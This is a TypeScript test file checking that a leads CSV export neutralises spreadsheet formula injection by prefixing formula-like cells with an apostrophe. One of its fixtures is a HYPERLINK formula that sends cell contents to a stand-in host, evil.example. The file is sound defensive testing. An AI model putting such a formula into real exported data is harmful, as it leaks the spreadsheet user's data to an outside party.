import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { readCsv } from "../../contracts/csv";
import { engines } from "../../tests/support/db";
import { envelope, validFormData } from "../../tests/support/form-fixtures";
import { startTestServer, type TestServer } from "../../tests/support/server";

const ADMIN_TOKEN = "admin-token-for-tests-0123456789";
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

/** What a spreadsheet would run as a formula, as OWASP lists it. */
const FORMULA_START = /^[=+\-@\t\r\n]/;

describe.each(engines)("the leads CSV export on %s", (engine) => {
  let server: TestServer;
  const ids: string[] = [];
  beforeAll(async () => {
    server = await startTestServer(
      engine,
      { adminToken: ADMIN_TOKEN },
      { leads: { rateLimit: false, outbox: { autoStart: false } } },
    );
    const leads = [
      { ...validFormData["Contact Form"], name: HYPERLINK },
      { ...validFormData["Contact Form"], name: "@SUM(A1:A9)", company: "Shah Foods;=1+2", message: "-2+3" },
      validFormData["Contact Form"],
    ];
    for (const data of leads) {
      const res = await fetch(`${server.url}/forms/submissions`, {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify(envelope("Contact Form", data)),
      });
      expect(res.status).toBe(201);
      ids.push(((await res.json()) as { id: string }).id);
    }
  });
  afterAll(() => server.close());

  it("writes a lead whose name is a formula as quoted text with a leading ', and ordinary leads as before", async () => {
    const res = await fetch(`${server.url}/admin/submissions?format=csv`, {
      headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
    });
    expect(res.status).toBe(200);
    const csv = await res.text();
    const lines = csv.split("\r\n");
    expect(lines[0]).toBe("id,form_type,submitted_at,received_at,name,email,company,message,interest");
    expect(lines[1]).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",`);
    expect(lines[2]).toContain(`,"'@SUM(A1:A9)",meera@example.com,"Shah Foods;=1+2","'-2+3",pricing`);
    expect(lines[3]).toMatch(/,Meera Shah,meera@example\.com,Shah Foods,Please call me about pricing\.,pricing$/);
    expect(csv.endsWith("\r\n")).toBe(true);

    const [header, ...rows] = readCsv(csv);
    expect(rows.map((r) => r[0])).toEqual(ids);
    const name = header!.indexOf("name");
    expect(rows.map((r) => r[name])).toEqual([`'${HYPERLINK}`, "'@SUM(A1:A9)", "Meera Shah"]);
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
  });
});
